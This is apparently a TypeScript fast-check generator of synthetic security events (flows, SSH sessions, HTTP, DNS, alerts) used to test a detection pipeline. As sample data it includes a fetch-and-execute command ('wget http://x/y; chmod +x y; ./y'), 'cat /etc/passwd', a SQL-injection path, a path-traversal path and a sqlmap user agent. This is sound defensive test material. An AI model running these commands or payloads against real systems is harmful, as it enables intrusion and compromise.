import fc from 'fast-check'
import type { CanonicalEvent } from '../../../core/events/event.ts'

/** A whole number of tenths of a second from an arbitrary start, so that sums are exact. */
const START = 1_700_000_000_000

const bytes = fc.integer({ min: 0, max: 1_000_000 })
const port = fc.oneof(fc.constantFrom(22, 80, 443, 445, 53), fc.integer({ min: 1, max: 65_535 }))
const host = fc.oneof(
  fc.constantFrom('10.0.0.1', '10.0.0.2', '198.51.100.7'),
  fc.tuple(fc.nat(255), fc.nat(255)).map(([a, b]) => `192.0.${a}.${b}`),
)

const what = fc.oneof(
  fc.record(
    {
      event_type: fc.constant('flow'),
      dst_ip: host,
      dst_port: port,
      src_port: fc.integer({ min: 1024, max: 65_535 }),
      proto: fc.constantFrom('tcp', 'udp', 'icmp'),
      bytes_out: bytes,
      bytes_in: bytes,
      pkts_out: fc.nat(1000),
      pkts_in: fc.nat(1000),
      duration_s: fc.integer({ min: 0, max: 4000 }).map((n) => n / 8),
      tcp_state: fc.constantFrom('S0', 'SF', 'REJ', 'OTH'),
    },
    { requiredKeys: ['event_type'] },
  ),
  fc.record(
    {
      event_type: fc.constantFrom('ssh.login.failed', 'ssh.login.success', 'ssh.connect', 'ssh.invalid_user'),
      dst_port: fc.constant(22),
      session: fc.constantFrom('a', 'b', 'c'),
      username: fc.constantFrom('root', 'admin', 'alice', 'bob'),
      password: fc.constantFrom('root', '123456', 'x9!'),
    },
    { requiredKeys: ['event_type'] },
  ),
  fc.record({
    event_type: fc.constant('ssh.command'),
    command: fc.constantFrom('uname -a', 'wget http://x/y; chmod +x y; ./y', 'ls', 'cat /etc/passwd'),
  }),
  fc.record({ event_type: fc.constant('ssh.session.closed'), duration_s: fc.nat(600) }),
  fc.record({
    event_type: fc.constant('http.request'),
    dst_ip: host,
    dst_port: fc.constant(80),
    proto: fc.constant('tcp'),
    http: fc.record(
      {
        path: fc.constantFrom('/', '/index.html', "/?id=1' or '1'='1", '/../../etc/passwd'),
        status: fc.constantFrom(200, 404, 500),
        user_agent: fc.constantFrom('Mozilla/5.0', 'sqlmap/1.7'),
      },
      { requiredKeys: [] },
    ),
  }),
  fc.record({
    event_type: fc.constant('dns.query'),
    dst_ip: host,
    dns: fc.record(
      {
        query: fc.constantFrom('example.com', 'x7qk2p9z.example', 'a.b'),
        rcode: fc.constantFrom('NOERROR', 'NXDOMAIN'),
      },
      { requiredKeys: [] },
    ),
  }),
  fc.record({ event_type: fc.constant('alert'), alert: fc.record({ severity: fc.integer({ min: 1, max: 4 }) }) }),
)

/** Events of one source over up to `spanS` seconds, in no order. */
export const burst = (most: number, spanS: number): fc.Arbitrary<CanonicalEvent[]> =>
  fc.array(
    fc
      .tuple(what, fc.nat(spanS * 10))
      .map(([event, tenths]) => ({ ...event, ts: START + tenths * 100, src_ip: '203.0.113.5' }) as CanonicalEvent),
    { minLength: 1, maxLength: most },
  )
